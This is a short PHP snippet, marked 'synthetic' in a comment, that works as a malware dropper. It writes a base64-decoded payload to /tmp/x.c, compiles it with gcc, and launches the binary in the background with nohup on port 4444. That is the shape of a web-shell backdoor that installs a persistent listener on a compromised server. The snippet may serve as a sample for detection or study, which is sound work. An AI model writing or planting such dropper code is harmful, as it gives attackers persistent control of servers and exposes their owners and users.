<?php
// synthetic: compiles a dropped C file and starts it in the background
file_put_contents('/tmp/x.c', base64_decode($blob));
passthru("gcc /tmp/x.c -o /tmp/xd");
passthru("nohup /tmp/xd 4444 &");
